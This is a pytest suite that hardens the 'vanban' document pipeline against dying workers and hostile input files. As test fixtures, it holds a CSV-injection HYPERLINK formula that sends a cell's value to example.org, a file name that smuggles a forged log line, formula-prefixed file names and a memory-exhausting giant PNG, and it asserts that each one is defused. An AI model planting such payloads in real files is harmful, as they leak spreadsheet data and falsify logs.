"""`vanban run` under hostile files and dying workers: a killed worker costs its file only, the parent's death
takes its workers with it, limits refuse in one line, the input folder is the boundary, names cannot forge lines,
CSV cells are never formulas, a killed run's temporary files are cleaned."""

from __future__ import annotations

import csv
import json
import os
import signal
import struct
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest

from .conftest import ROOT

VANBAN = [sys.executable, "-m", "pipeline.cli"]
LETTERS = sorted((ROOT / "corpus" / "letters").glob("*.txt"))


def vanban(*args, timeout=120, cwd=None):
    return subprocess.run([*VANBAN, *args], capture_output=True, text=True, timeout=timeout, cwd=cwd,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})


def peak_mb(*args, timeout=120) -> tuple[subprocess.CompletedProcess, float]:
    """Run `vanban ARGS` under a small Python parent that reports the peak memory of its children (the run and
    its workers): the figure is the child's own, whatever this test process holds."""
    code = ("import resource, subprocess, sys, json; r = subprocess.run(sys.argv[1:], capture_output=True, "
            "text=True); print(json.dumps([r.returncode, r.stdout, r.stderr, "
            "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]))")
    wrapper = subprocess.run([sys.executable, "-c", code, *VANBAN, *args], capture_output=True, text=True,
                             timeout=timeout)
    rc, out, err, kb = json.loads(wrapper.stdout)
    return subprocess.CompletedProcess(args, rc, out, err), kb / 1024


def letters_folder(folder: Path, count: int) -> Path:
    """`count` distinct letters (the corpus's, each with its own filing note, so each is a file of its own)."""
    folder.mkdir()
    for k in range(count):
        source = LETTERS[k % len(LETTERS)]
        text = source.read_text(encoding="utf-8") + f"\nLưu: VT, hồ sơ {k}.\n"
        (folder / f"{k:03d}-{source.name}").write_text(text, encoding="utf-8")
    return folder


def children(pid: int) -> list[int]:
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                fields = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid and fields[0] != "Z":
                out.append(int(entry))
    return out


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def workers_of(pid: int) -> list[int]:
    """The run's worker processes: the children of its fork server (the run forks no worker itself), not the
    fork server nor multiprocessing's resource tracker."""
    found = []
    for child in children(pid):
        try:
            command = Path(f"/proc/{child}/cmdline").read_bytes()
        except OSError:
            continue
        if b"forkserver" in command:
            found += children(child)
        elif b"resource_tracker" not in command:
            found.append(child)
    return found


def wait_for_workers(process: subprocess.Popen, count: int, timeout: float = 60) -> list[int]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = workers_of(process.pid)
        if len(found) >= count:
            return found
        assert process.poll() is None, process.communicate()
        time.sleep(0.05)
    raise AssertionError("the workers did not start")


def test_a_killed_worker_costs_its_file_only(tmp_path):
    folder = letters_folder(tmp_path / "in", 600)  # a second or two of work for two workers
    out = tmp_path / "out"
    process = subprocess.Popen([*VANBAN, "run", str(folder), "--out", str(out), "--workers", "2"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    workers = wait_for_workers(process, 2)
    time.sleep(0.2)  # each worker is reading a letter (they are given one as they start)
    os.kill(workers[0], signal.SIGKILL)  # as the kernel's out-of-memory killer would
    stdout, stderr = process.communicate(timeout=200)
    assert process.returncode == 3, stderr
    assert "Traceback" not in stderr and "internal error" not in stderr
    failed = [line for line in stderr.splitlines() if line.startswith("failed:")]
    assert len(failed) == 1 and "[worker]" in failed[0] and "SIGKILL" in failed[0], stderr
    report = json.loads((out / "run.json").read_text())
    assert report["ok"] == 599 and report["failed"] == 1 and report["processed"] == 600
    for name in ("graph.gexf", "graph.graphml", "graph.json", "graph.html", "documents.csv", "references.csv",
                 "errors.csv", "merges.csv", "vanban.xlsx"):
        assert (out / name).exists(), name
    errors = list(csv.DictReader((out / "errors.csv").open(encoding="utf-8-sig")))
    assert len(errors) == 1 and errors[0]["stage"] == "worker"


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM])
def test_no_worker_outlives_a_killed_run(tmp_path, how):
    folder = letters_folder(tmp_path / "in", 120)
    process = subprocess.Popen([*VANBAN, "run", str(folder), "--out", str(tmp_path / "out"), "--workers", "2"],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers = wait_for_workers(process, 2)
    process.send_signal(how)
    process.wait(timeout=10)
    deadline = time.monotonic() + 5
    while any(alive(pid) for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(alive(pid) for pid in workers), [pid for pid in workers if alive(pid)]


def test_limits_refuse_in_one_line_and_the_batch_goes_on(tmp_path):
    folder = letters_folder(tmp_path / "in", 2)
    big = folder / "big.txt"
    big.write_text(LETTERS[0].read_text(encoding="utf-8") * 600, encoding="utf-8")  # over 2 MB of text
    assert big.stat().st_size > 2_000_000
    out = tmp_path / "out"
    result = vanban("run", str(folder), "--out", str(out))
    assert result.returncode == 3
    failed = [line for line in result.stderr.splitlines() if line.startswith("failed:")]
    assert len(failed) == 1 and "big.txt" in failed[0] and "--max-text-mb" in failed[0], result.stderr
    assert json.loads((out / "run.json").read_text())["ok"] == 2
    lowered = vanban("run", str(folder), "--out", str(tmp_path / "out2"), "--max-text-mb", "0.001")
    assert lowered.returncode == 3 and lowered.stderr.count("--max-text-mb") == 3  # the limit is the user's to set
    # Seconds and memory: a worker over either is stopped, its file failed, the others go on.
    # (the big text, read when its size is allowed, takes seconds; a letter takes milliseconds, under the check's
    # interval, in a worker whose models were loaded before it)
    slow = vanban("run", str(folder), "--out", str(tmp_path / "out3"), "--max-seconds", "0.01", "--max-text-mb", "10")
    stopped = [line for line in slow.stderr.splitlines() if "(--max-seconds): stopped" in line]
    assert slow.returncode == 3 and len(stopped) == 1 and "big.txt" in stopped[0], slow.stderr
    summary = json.loads((tmp_path / "out3" / "run.json").read_text())
    assert summary["processed"] == 3 and summary["ok"] == 2
    heavy = vanban("run", str(folder), "--out", str(tmp_path / "out4"), "--max-memory-mb", "20", "--max-text-mb", "10")
    stopped = [line for line in heavy.stderr.splitlines() if "(--max-memory-mb): stopped" in line]
    assert heavy.returncode == 3 and stopped and "big.txt" in stopped[0], heavy.stderr


def write_png(path: Path, width: int, height: int) -> None:
    """A white gray PNG of any size, streamed (never held whole)."""
    chunk = lambda kind, data: (struct.pack(">I", len(data)) + kind + data  # noqa: E731
                                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    packer = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * width
    with path.open("wb") as handle:
        handle.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)))
        data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
        handle.write(chunk(b"IDAT", data) + chunk(b"IEND", b""))


def test_a_784_megapixel_png_is_refused_within_bounded_memory(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    write_png(folder / "huge.png", 28_000, 28_000)
    result, peak = peak_mb("run", str(folder), "--out", str(tmp_path / "out"))
    assert result.returncode == 3, result.stderr
    assert "784 Mpx" in result.stderr and "--max-megapixels" in result.stderr
    assert result.stderr.count("\n") == 2 and "warn" not in result.stderr, result.stderr  # failed: + where listed
    assert peak < 1536, peak


def test_pages_per_file(tmp_path):
    import pypdfium2 as pdfium

    pdf = pdfium.PdfDocument.new()
    for _ in range(3):
        pdf.new_page(595, 842)
    pdf.save(str(tmp_path / "blank.pdf"))
    result = vanban("run", str(tmp_path / "blank.pdf"), "--out", str(tmp_path / "out"), "--max-pages", "2")
    assert result.returncode == 3
    assert "blank.pdf: 3 pages, more than the limit of 2 pages per file (--max-pages)" in result.stderr


def test_the_input_folder_is_the_boundary(tmp_path):
    folder = letters_folder(tmp_path / "in", 1)
    secret = tmp_path / "secret.txt"
    secret.write_text(LETTERS[1].read_text(encoding="utf-8"), encoding="utf-8")
    (folder / "outside.txt").symlink_to(secret)
    (folder / "inside.txt").symlink_to(next(folder.glob("000-*")))
    os.mkfifo(folder / "pipe.txt")
    forged = folder / "bad\nfailed: forged.txt"
    forged.write_bytes(b"\x00\x01\x02 not text")
    out = tmp_path / "out"
    result = vanban("run", str(folder), "--out", str(out), timeout=60)  # a named pipe must not hang it
    assert result.returncode == 3, result.stderr
    lines = result.stderr.splitlines()
    assert any(line.startswith("skipped:") and "outside.txt" in line and "--follow-symlinks" in line
               for line in lines)
    assert any(line.startswith("skipped:") and "pipe.txt" in line and "named pipe" in line for line in lines)
    assert [line for line in lines if line.startswith("failed:")] == [
        line for line in lines if "bad\\nfailed: forged.txt" in line and line.startswith("failed:")]
    assert not any(line.startswith("failed: forged.txt") for line in lines)
    rows = list(csv.DictReader((out / "documents.csv").open(encoding="utf-8-sig")))
    paths = [path for row in rows for path in row["paths"].split("; ")]
    assert not any(s.endswith("outside.txt") for s in paths) and any(s.endswith("inside.txt") for s in paths)
    assert len(rows) == 2  # the link inside is the letter's second path, not a second document
    followed = vanban("run", str(folder), "--out", str(out), "--follow-symlinks", timeout=60)
    sources = [row["source"] for row in csv.DictReader((out / "documents.csv").open(encoding="utf-8-sig"))]
    assert any(s.endswith("outside.txt") for s in sources), followed.stderr


def test_csv_cells_are_never_formulas(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    subject = '=HYPERLINK("http://example.org/?"&A1,"Xem")'
    text = (ROOT / "corpus" / "letters" / "021-UBND-VP-camthanh-quangngai.txt").read_text(encoding="utf-8")
    assert "V/v" in text
    (folder / "a.txt").write_text(text.replace("V/v", f"V/v {subject}", 1), encoding="utf-8")
    (folder / "@cmd.txt").write_text("\x00 not text", encoding="utf-8")
    (folder / "-2+3.txt").write_text("", encoding="utf-8")
    out = tmp_path / "out"
    vanban("run", ".", "--out", str(out), cwd=folder)  # sources as given: `@cmd.txt`, `-2+3.txt`
    for name in ("documents.csv", "references.csv", "errors.csv", "merges.csv"):
        for row in csv.reader((out / name).open(encoding="utf-8-sig")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), (name, cell)
    errors = (out / "errors.csv").read_text(encoding="utf-8-sig")
    assert "'@cmd.txt" in errors and "'-2+3.txt" in errors
    assert "'=HYPERLINK(" in (out / "documents.csv").read_text(encoding="utf-8-sig")


def test_a_killed_runs_temporary_files_are_removed(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    leftover = out / f".graph.gexf.{dead.pid}.partial"
    leftover.write_text("<gexf")
    live = out / f".graph.json.{os.getpid()}.partial"  # a run still writing (this process is alive)
    live.write_text("{")
    result = vanban("run", str(LETTERS[0]), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert not leftover.exists() and live.exists()


def test_a_full_disk_during_the_exports_is_one_line_per_export(demo_archive, tmp_path):
    """Writes refused half-way (files limited to 20 KB once the store is open, as a disk filling up would refuse
    them): each export that cannot be written is one line of the report, and nothing else is printed (no
    `Exception ignored` traceback from the writers' leftovers)."""
    code = ("import json, resource, signal, sys; from pathlib import Path; from pipeline.archive import store; "
            "from pipeline import exports; conn = store.connect(sys.argv[1], readonly=True); "
            "conn.execute('PRAGMA temp_store=MEMORY'); "
            "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); "  # a refused write is an error (EFBIG), not a signal
            "resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000)); "
            "report = exports.export_all(conn, Path(sys.argv[2])); print(json.dumps(report.failed))")
    import sqlite3

    copy = tmp_path / "archive.sqlite"  # the archive in one file (no WAL index to grow under the limit)
    with sqlite3.connect(demo_archive / "archive.sqlite") as source, sqlite3.connect(copy) as target:
        source.backup(target)
        target.execute("PRAGMA journal_mode=DELETE")
    result = subprocess.run([sys.executable, "-c", code, str(copy), str(tmp_path / "exports")],
                            capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert result.returncode == 0 and result.stderr == "", result.stderr
    failed = json.loads(result.stdout)
    assert "workbook" in failed and "gexf" in failed and "errors" not in failed, failed
    assert all(line.count("\n") == 0 for line in failed.values()), failed
    assert failed["gexf"] == "graph.gexf: File too large"
    assert (tmp_path / "exports" / "errors.csv").exists()  # those that fit are written
    assert not list((tmp_path / "exports").glob(".*.partial"))
